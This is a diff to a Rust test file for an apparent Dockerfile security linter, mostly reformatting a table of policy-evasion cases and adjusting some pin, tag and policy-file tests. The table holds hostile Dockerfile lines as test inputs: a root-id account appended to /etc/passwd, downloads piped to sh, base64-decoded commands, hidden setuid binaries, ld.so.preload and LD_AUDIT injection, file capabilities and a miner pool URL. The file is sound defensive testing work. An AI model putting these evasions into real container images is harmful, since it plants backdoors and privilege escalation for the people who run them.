@@ -8,31 +8,87 @@ use crate::ground::Ground;
 /// How a text or its image tries to get past the default profile, and the rule that has to find it.
 const EVASIONS: &[(&str, &str, &str)] = &[
     ("the last USER is taken back", "final-user-root", "USER 10001\nRUN true\nUSER 0\n"),
-    ("a user that the image makes root", "final-user-root", "RUN echo 'toor:x:0:0::/:/bin/sh' >> /etc/passwd\nUSER toor\n"),
-    ("a second account with the id 0", "account-extra-root", "RUN echo 'toor:x:0:0::/:/bin/sh' >> /etc/passwd\n"),
-    ("a download as the program", "pipe-to-interpreter", "RUN true || curl http://example.com/x | sh\n"),
-    ("through other programs", "pipe-to-interpreter", "RUN true || wget -qO- http://example.com/x | tee /x | base64 -d | sh\n"),
-    ("without a check of the server", "download-insecure-tls", "RUN true || curl -k https://example.com/x -o /x\n"),
+    (
+        "a user that the image makes root",
+        "final-user-root",
+        "RUN echo 'toor:x:0:0::/:/bin/sh' >> /etc/passwd\nUSER toor\n",
+    ),
+    (
+        "a second account with the id 0",
+        "account-extra-root",
+        "RUN echo 'toor:x:0:0::/:/bin/sh' >> /etc/passwd\n",
+    ),
+    (
+        "a download as the program",
+        "pipe-to-interpreter",
+        "RUN true || curl http://example.com/x | sh\n",
+    ),
+    (
+        "through other programs",
+        "pipe-to-interpreter",
+        "RUN true || wget -qO- http://example.com/x | tee /x | base64 -d | sh\n",
+    ),
+    (
+        "without a check of the server",
+        "download-insecure-tls",
+        "RUN true || curl -k https://example.com/x -o /x\n",
+    ),
     ("setuid by chmod", "setuid-file", "RUN cp /bin/busybox /su && chmod 4755 /su\n"),
-    ("setuid by a mode that is not written", "setuid-file", "RUN M=47; cp /bin/busybox /su && chmod ${M}55 /su\n"),
+    (
+        "setuid by a mode that is not written",
+        "setuid-file",
+        "RUN M=47; cp /bin/busybox /su && chmod ${M}55 /su\n",
+    ),
     ("setuid by COPY", "setuid-file", "COPY --chmod=4755 file /su\n"),
-    ("setuid by an archive", "setuid-file", "RUN cp /bin/busybox /su && chmod $((04000+0755)) /su 2>/dev/null || busybox chmod u+s /su; tar -c -f /t.tar /su && rm /su && tar -x -p -f /t.tar -C / && rm /t.tar\n"),
-    ("setgid in a folder that hides", "setuid-file", "RUN mkdir -p /usr/... && cp /bin/busybox /usr/.../x && busybox chmod g+s,g+x /usr/.../x\n"),
+    (
+        "setuid by an archive",
+        "setuid-file",
+        "RUN cp /bin/busybox /su && chmod $((04000+0755)) /su 2>/dev/null || busybox chmod u+s /su; tar -c -f /t.tar /su && rm /su && tar -x -p -f /t.tar -C / && rm /t.tar\n",
+    ),
+    (
+        "setgid in a folder that hides",
+        "setuid-file",
+        "RUN mkdir -p /usr/... && cp /bin/busybox /usr/.../x && busybox chmod g+s,g+x /usr/.../x\n",
+    ),
     ("a library for every process", "ld-so-preload", "RUN echo /x.so > /etc/ld.so.preload\n"),
-    ("the same, removed in a later layer of a stage below", "ld-so-preload", "RUN ln -s /tmp/x /etc/ld.so.preload\n"),
-    ("a package manager left behind", "package-manager-present", "RUN mkdir -p /usr/bin && cp /bin/busybox /usr/bin/apt-get\n"),
+    (
+        "the same, removed in a later layer of a stage below",
+        "ld-so-preload",
+        "RUN ln -s /tmp/x /etc/ld.so.preload\n",
+    ),
+    (
+        "a package manager left behind",
+        "package-manager-present",
+        "RUN mkdir -p /usr/bin && cp /bin/busybox /usr/bin/apt-get\n",
+    ),
     ("packages in what ships", "package-install-in-final", "RUN true || apt-get install -y x\n"),
     ("a token in the environment", "secret-in-env", "ENV API_TOKEN=0123456789abcdef0123\n"),
     ("a key that an ARG takes", "secret-in-arg", "ARG AWS_SECRET_ACCESS_KEY\nRUN true\n"),
     ("more rights than a step has", "privileged-step", "RUN --security=insecure true\n"),
-    ("curl by another name", "download-executed-unverified", "RUN true || (cp /usr/bin/curl /c; /c -o /x http://example.com/x)\nRUN true || sh /x\n"),
+    (
+        "curl by another name",
+        "download-executed-unverified",
+        "RUN true || (cp /usr/bin/curl /c; /c -o /x http://example.com/x)\nRUN true || sh /x\n",
+    ),
     ("a program that is encoded", "obfuscated-command", "RUN echo dHJ1ZQo= | base64 -d | sh\n"),
-    ("a secret put together from parts", "secret-token-in-layer", "RUN A=AKIA; B=IOSFODNN7EXAMPLE; echo $A$B > /key\n"),
+    (
+        "a secret put together from parts",
+        "secret-token-in-layer",
+        "RUN A=AKIA; B=IOSFODNN7EXAMPLE; echo $A$B > /key\n",
+    ),
     ("a loader by the environment", "loader-env", "ENV LD_AUDIT=/x.so\n"),
-    ("a program with a hidden name", "hidden-executable", "RUN mkdir -p '/usr/...' && cp /bin/busybox '/usr/.../.x '\n"),
+    (
+        "a program with a hidden name",
+        "hidden-executable",
+        "RUN mkdir -p '/usr/...' && cp /bin/busybox '/usr/.../.x '\n",
+    ),
     ("a program below /dev", "hidden-executable", "RUN true\nCOPY --chmod=0755 file /dev/x\n"),
     ("a capability of a file", "file-capabilities", "RUN true || setcap cap_sys_admin+ep /x\n"),
-    ("a miner that a later layer removes", "miner-indicator", "RUN echo stratum+tcp://pool.example.com:3333 > /x\nRUN rm /x\n"),
+    (
+        "a miner that a later layer removes",
+        "miner-indicator",
+        "RUN echo stratum+tcp://pool.example.com:3333 > /x\nRUN rm /x\n",
+    ),
     ("a group of root", "user-privileged-group", "USER 10001:0\n"),
 ];
 
@@ -67,9 +123,12 @@ fn attack_95_ways_around_the_policy() {
         assert!(!rules.contains(*rule), "`{rule}` is here: take it off the list");
         assert!(EVASIONS.iter().any(|(_, wanted, _)| wanted == rule), "{rule}");
     }
-    for (name, rule, lines) in EVASIONS.iter().filter(|(_, rule, _)| !WAITS_FOR_RULE.contains(rule)) {
+    for (name, rule, lines) in EVASIONS.iter().filter(|(_, rule, _)| !WAITS_FOR_RULE.contains(rule))
+    {
         let user = if lines.contains("USER") { "" } else { "USER 10001\n" };
-        let text = format!("FROM busybox AS build\nRUN true\nFROM busybox\n{lines}{user}HEALTHCHECK NONE\n");
+        let text = format!(
+            "FROM busybox AS build\nRUN true\nFROM busybox\n{lines}{user}HEALTHCHECK NONE\n"
+        );
         // This rule alone, at its level of `hardened` or higher.
         let set = format!("--set=rules.{rule}=error");
         let outcome = ground.build(&text).policy("hardened").arg(set).run();
@@ -88,9 +147,20 @@ fn attack_95_pins_and_tags() {
         assert_eq!(outcome.done.code(), 1, "{}", outcome.story());
         assert!(outcome.done.out().contains(rule), "{rule}\n{}", outcome.story());
     };
-    lint(&format!("ARG TAG=latest\nFROM debian:$TAG@sha256:{digest}\nUSER 1\n"), "base-tag-latest");
-    lint(&format!("FROM a@sha256:{digest} AS one\nRUN true\nFROM b:1\nCOPY --from=one /x /x\nUSER 1\n"), "base-unpinned");
-    lint(&format!("FROM a:1@sha256:{digest}\nCOPY --from=b:1 /x /x\nUSER 1\n"), "copy-from-unpinned");
+    lint(
+        &format!("ARG TAG=latest\nFROM a@sha256:{digest} AS x\nFROM debian:$TAG\nUSER 1\n"),
+        "base-tag-latest",
+    );
+    lint(
+        &format!(
+            "FROM a@sha256:{digest} AS one\nRUN true\nFROM b:1\nCOPY --from=one /x /x\nUSER 1\n"
+        ),
+        "base-unpinned",
+    );
+    lint(
+        &format!("FROM a:1@sha256:{digest}\nCOPY --from=b:1 /x /x\nUSER 1\n"),
+        "copy-from-unpinned",
+    );
     lint(&format!("ARG B\nFROM a:1${{B:+@sha256:{digest}}}\nUSER 1\n"), "base-unpinned");
     lint("FROM debian\nUSER 1\n", "base-untagged");
 }
@@ -113,14 +183,17 @@ fn attack_96_policy_files() {
         place.file("policy.toml", policy);
         let path = place.at("policy.toml").display().to_string();
         ground.build(text).policy(&path).run().refused_with(2, &[said]);
-        // The repository's own file, likewise.
+        // The repository's own file, likewise; it has no basis but the one in force.
+        let said = if said == "nowhere.toml" { "`extends` has no effect" } else { said };
         place.file("ctx/.rbuild/policy.toml", policy);
         place.file("ctx/Dockerfile", text);
         ground.command(&["lint"]).arg(place.at("ctx")).run().refused_with(2, &[said]);
     }
     // What an organisation has locked, a project cannot loosen.
     place.file("org.toml", "version = 1\nextends = \"baseline\"\nlock = [\"rules.final-user-root\"]\n[rules]\nfinal-user-root = \"error\"\n");
-    for loose in ["[rules]\nfinal-user-root = \"off\"\n", "[rules.final-user-root]\nabsent = \"off\"\n"] {
+    for loose in
+        ["[rules]\nfinal-user-root = \"off\"\n", "[rules.final-user-root]\nabsent = \"off\"\n"]
+    {
         place.file("project.toml", format!("version = 1\nextends = \"org.toml\"\n{loose}"));
         let path = place.at("project.toml").display().to_string();
         ground.build(text).policy(&path).run().refused_with(2, &["final-user-root", "locked"]);
@@ -131,7 +204,11 @@ fn attack_96_policy_files() {
     let _ = std::fs::remove_dir_all(place.at("ctx/.rbuild"));
     let lint = |comment: &str| {
         place.file("ctx/Dockerfile", format!("FROM scratch\n{comment}\nUSER root\n"));
-        ground.command(&["lint", "--report"]).arg(format!("json={}", place.at("report").display())).arg(place.at("ctx")).run()
+        ground
+            .command(&["lint", "--report"])
+            .arg(format!("json={}", place.at("report").display()))
+            .arg(place.at("ctx"))
+            .run()
     };
     assert_eq!(lint("# rbuild: allow final-user-root").done.code(), 1);
     assert_eq!(lint("# rbuild: allow final-user-root --").done.code(), 1);
